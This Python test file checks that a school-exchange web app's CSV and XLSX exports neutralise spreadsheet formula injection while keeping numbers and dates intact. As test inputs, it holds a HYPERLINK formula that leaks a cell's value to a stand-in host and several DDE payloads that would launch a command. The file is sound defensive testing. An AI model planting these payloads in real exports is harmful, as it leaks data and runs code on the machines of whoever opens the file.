"""No exported spreadsheet runs what a user typed: text that a spreadsheet would read as a
formula is defused in every CSV and XLSX, while numbers and dates stay numbers and dates."""

from __future__ import annotations

import ast
import csv
import io
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from exchange.core import spreadsheets
from exchange.exchanges.models import ExchangeStatus
from exchange.extensions import db
from exchange.registrations import services
from tests import factories
from tests.helpers import login_as, post_form

HOSTILE_NAME = '=HYPERLINK("http://x.example/?leak="&A1,"Click")'
HOSTILE_NOTE = "+cmd|' /C calc'!A0"
HOSTILE_SCHOOL = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_PARTNER = "-2+3+cmd|' /C calc'!A0"
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
PERIOD = "date_from=2025-01-01&date_to=2025-12-31"


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def _cells(response):
    """Every filled cell of every sheet of the XLSX in ``response``."""
    workbook = load_workbook(io.BytesIO(response.data))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value]


def _assert_no_live_text(values) -> None:
    for value in values:
        if isinstance(value, str):
            assert not value.startswith(DANGEROUS_STARTS), value


def _assert_no_formula_cells(cells) -> None:
    for cell in cells:
        assert cell.data_type != "f", cell.coordinate
        if isinstance(cell.value, str):
            assert cell.data_type == "s", cell.coordinate
            assert not cell.value.startswith(DANGEROUS_STARTS), cell.value


@pytest.fixture
def hostile_roster(app_context, coordinator):
    school = factories.institution(name=HOSTILE_SCHOOL)
    exchange = factories.exchange(title=HOSTILE_NAME)
    hostile = factories.participant(
        school, first_name=HOSTILE_NAME, last_name="\tTab", dietary_notes=HOSTILE_NOTE
    )
    services.register_participant(exchange, hostile, by=coordinator)
    db.session.commit()
    return exchange


# --- the helper -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HOSTILE_NAME, "'" + HOSTILE_NAME),
        (HOSTILE_NOTE, "'" + HOSTILE_NOTE),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Kowalska", "Kowalska"),
        ("O'Brien", "O'Brien"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_text_that_starts_like_a_formula_gets_a_quote(value, expected):
    assert spreadsheets.defuse(value) == expected


def test_numbers_and_dates_are_left_as_they_are():
    values = [-5, -2.5, Decimal("-300.00"), date(2026, 1, 2), datetime(2026, 1, 2, 9, 30), None]
    assert spreadsheets.csv_row(values) == ["-5", "-2.5", "-300.00", "2026-01-02",
                                            "2026-01-02 09:30", ""]  # fmt: skip


def test_characters_a_workbook_cannot_hold_are_dropped_not_a_crash():
    workbook = load_workbook(
        io.BytesIO(spreadsheets.workbook_bytes([("Sheet", ["a"], [["x\x01y"]], [])]))
    )
    assert workbook.active["A2"].value == "xy"


# --- roster ---------------------------------------------------------------------------------


def test_roster_csv_defuses_names_and_notes(client, coordinator, hostile_roster):
    login_as(client, coordinator)
    rows = _csv_rows(client.get(f"/exchanges/{hostile_roster.id}/roster.csv?include_notes=y"))
    row = rows[1]
    assert row[0] == "'" + HOSTILE_SCHOOL
    assert row[1] == "'\tTab"
    assert row[2] == "'" + HOSTILE_NAME
    assert row[-2] == "'" + HOSTILE_NOTE
    assert row[4] == "15"  # the age stays a number
    _assert_no_live_text(value for row in rows for value in row)


def test_roster_xlsx_writes_names_and_notes_as_text_not_formulas(
    client, coordinator, hostile_roster
):
    login_as(client, coordinator)
    response = client.get(f"/exchanges/{hostile_roster.id}/roster.xlsx?include_notes=y")
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet["C2"].value == "'" + HOSTILE_NAME
    assert sheet["C2"].data_type == "s"
    assert sheet["K2"].value == "'" + HOSTILE_NOTE
    assert sheet["K2"].data_type == "s"
    assert sheet["E2"].value == 15
    assert isinstance(sheet["D2"].value, datetime)  # the date of birth stays a date
    _assert_no_formula_cells(_cells(response))


def test_grant_pack_xlsx_writes_names_as_text_not_formulas(client, coordinator, hostile_roster):
    login_as(client, coordinator)
    response = client.get(f"/reports/exchanges/{hostile_roster.id}/grant-pack.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet["B2"].value == f"'{HOSTILE_NAME} \tTab"
    assert sheet["B2"].data_type == "s"
    assert sheet["C2"].value == "'" + HOSTILE_SCHOOL
    assert sheet["A2"].value == 1
    _assert_no_formula_cells(_cells(response))


# --- the activity report --------------------------------------------------------------------


@pytest.fixture
def hostile_report(app_context):
    partner = factories.partner(name=HOSTILE_PARTNER)
    factories.exchange(
        [partner],
        title=HOSTILE_NAME,
        status=ExchangeStatus.COMPLETED,
        start=date(2025, 3, 10),
        end_date=date(2025, 3, 16),
        budget_planned=Decimal("1000.00"),
        budget_actual=Decimal("700.00"),
        currency="PLN",
    )
    return partner


def test_report_csv_defuses_names_and_keeps_negative_amounts(client, coordinator, hostile_report):
    login_as(client, coordinator)
    rows = _csv_rows(client.get(f"/reports/export/exchanges_by_partner.csv?{PERIOD}"))
    assert ["'" + HOSTILE_PARTNER, "1"] in rows
    _assert_no_live_text(value for row in rows for value in row)
    budget = _csv_rows(client.get(f"/reports/export/budget_by_kind.csv?{PERIOD}"))
    assert "-300.00" in budget[1]  # a real negative number is not text


def test_report_xlsx_writes_names_as_text_and_negative_amounts_as_numbers(
    client, coordinator, hostile_report
):
    login_as(client, coordinator)
    query = f"{PERIOD}&partner={hostile_report.id}"
    cells = _cells(client.get(f"/reports/export/report.xlsx?{query}"))
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert "'" + HOSTILE_PARTNER in texts
    _assert_no_formula_cells(cells)
    negative = [cell for cell in cells if cell.value == Decimal("-300") or cell.value == -300]
    assert negative
    assert all(cell.data_type == "n" for cell in negative)


# --- one helper for every writer ------------------------------------------------------------

PACKAGE = Path(__file__).resolve().parent.parent / "exchange"
HELPER = PACKAGE / "core" / "spreadsheets.py"
#: ways to write a spreadsheet without the helper
WRITERS = {("csv", "writer"), ("csv", "DictWriter"), ("openpyxl", "Workbook")}


def _writers(path: Path) -> list[str]:
    found = []
    for node in ast.walk(ast.parse(path.read_text(), filename=str(path))):
        attribute = (
            isinstance(node, ast.Attribute)
            and isinstance(node.value, ast.Name)
            and (node.value.id, node.attr) in WRITERS
        )
        imported = (
            isinstance(node, ast.ImportFrom)
            and (node.module or "").startswith("openpyxl")
            and any(alias.name == "Workbook" for alias in node.names)
        )
        if attribute or imported:
            found.append(f"{path.name}:{node.lineno}")
    return found


def test_every_csv_and_xlsx_is_written_through_the_helper():
    modules = [path for path in PACKAGE.rglob("*.py") if path != HELPER]
    assert [place for path in modules for place in _writers(path)] == []


def test_the_import_template_is_written_through_the_helper(client, school_user):
    login_as(client, school_user)
    sheet = load_workbook(io.BytesIO(client.get("/participants/import/template.xlsx").data)).active
    assert sheet["J2"].value == "'+48 600 100 200"  # the example's phone number, defused
    assert sheet["J2"].data_type == "s"


@pytest.mark.parametrize(("language", "delimiter"), [("pl", ";"), ("en", ",")])
def test_roster_csv_opens_right_in_the_users_excel(
    client, coordinator, hostile_roster, language, delimiter
):
    login_as(client, coordinator)
    post_form(client, "/language", {"language": language, "next": "/"})
    data = client.get(f"/exchanges/{hostile_roster.id}/roster.csv").data
    assert data.startswith("\ufeff".encode())  # UTF-8 with a BOM: Polish letters survive
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))
    assert len(rows) == 2  # the header and the one registration
    assert len(rows[0]) > 5
    assert all(len(row) == len(rows[0]) for row in rows)
